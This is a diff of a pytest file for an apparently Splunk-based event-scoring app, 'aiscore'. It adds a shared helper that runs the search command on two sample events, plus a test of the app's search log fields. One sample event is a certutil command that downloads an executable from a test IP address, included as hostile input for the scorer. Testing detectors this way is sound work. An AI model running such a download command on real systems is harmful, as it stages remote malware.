@@ -10,6 +10,7 @@ import tarfile
 
 import confs
 import pytest
+from app_searches import LOG_FIELDS
 from conftest import build
 
 TEXT = {".py", ".conf", ".xml", ".html", ".json", ".md", ".txt", ".toml", ".meta", ".spec", ".yml", ".yaml", ".csv",
@@ -194,23 +195,40 @@ def interpreter_of(version):
     pytest.skip(f"there is no Python {version}: make search-environments")
 
 
-@pytest.mark.parametrize("version", ["3.9", "3.13"])
-def test_rules_score_on_an_indexer_with_nothing_but_the_search_bundle(search_bundle, version, tmp_path):
-    if not (search_bundle / "bin/aiscore.py").exists():
-        pytest.skip("bin/aiscore.py is not there")
-    interpreter = interpreter_of(version)
-    searchinfo = {"args": ["field=_raw", "mode=rules"], "raw_args": ["field=_raw", "mode=rules"], "sid": "remote_1",
-                  "command": "aiscore", "splunk_version": "9.4.0", "app": "aiscore", "owner": "analyst",
-                  "username": "analyst", "dispatch_dir": str(tmp_path), "maxresultrows": 50000}
+def run_command(app, arguments, version, folder, **environment):
+    """What the command in `app` replies to two events, as (metadata, body) pairs."""
+    searchinfo = {"args": arguments, "raw_args": arguments, "sid": "remote_1", "command": "aiscore", "app": "aiscore",
+                  "splunk_version": "9.4.0", "owner": "analyst", "username": "analyst", "dispatch_dir": str(folder),
+                  "maxresultrows": 50000}
     body = (b'_chunked_idx,_raw\n0,"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"\n'
             b'1,"user logged in"\n')
     asked = chunk({"action": "getinfo", "preview": False, "searchinfo": searchinfo})
     asked += chunk({"action": "execute", "finished": True}, body)
-    done = subprocess.run([str(interpreter), str(search_bundle / "bin/aiscore.py")], input=asked, capture_output=True,
-                          env={"PATH": "/usr/bin:/bin"}, cwd=tmp_path, timeout=60, check=False)
+    done = subprocess.run([str(interpreter_of(version)), str(app / "bin/aiscore.py")], input=asked, capture_output=True,
+                          env={"PATH": "/usr/bin:/bin", **environment}, cwd=folder, timeout=60, check=False)
     assert (done.returncode, done.stderr) == (0, b"")
-    (info, _), (_, scored) = replies(done.stdout)
+    return replies(done.stdout)
+
+
+@pytest.mark.parametrize("version", ["3.9", "3.13"])
+def test_rules_score_on_an_indexer_with_nothing_but_the_search_bundle(search_bundle, version, tmp_path):
+    (info, _), (_, scored) = run_command(search_bundle, ["field=_raw", "mode=rules"], version, tmp_path)
     assert info["type"] == "streaming"
     rows = scored.strip().split("\n")
     assert len(rows) == 3 and "ai_score" in rows[0]
     assert all("rules" in row for row in rows[1:])
+
+
+@pytest.mark.parametrize("version", ["3.9", "3.13"])
+def test_log_line_of_a_search_has_the_fields_that_searches_and_dashboards_read(unpacked, version, tmp_path):
+    app = tmp_path / "etc/apps/aiscore"
+    shutil.copytree(unpacked, app, ignore=shutil.ignore_patterns("scorer"))
+    (app / "local").mkdir()
+    (app / "local/aiscore.conf").write_text("[scorer]\nurl = https://127.0.0.1:1\n")
+    (tmp_path / "var/log/splunk").mkdir(parents=True)
+    run_command(app, ["field=_raw"], version, tmp_path, SPLUNK_HOME=str(tmp_path))
+    lines = [json.loads(line) for line in (tmp_path / "var/log/splunk/aiscore.log").read_text().splitlines()]
+    summary = [line for line in lines if line["event"] == "search"]
+    assert len(summary) == 1
+    assert (summary[0]["rows"], summary[0]["fallback_rows"], summary[0]["reason"]) == (2, 2, "unreachable")
+    assert set(summary[0]) == LOG_FIELDS
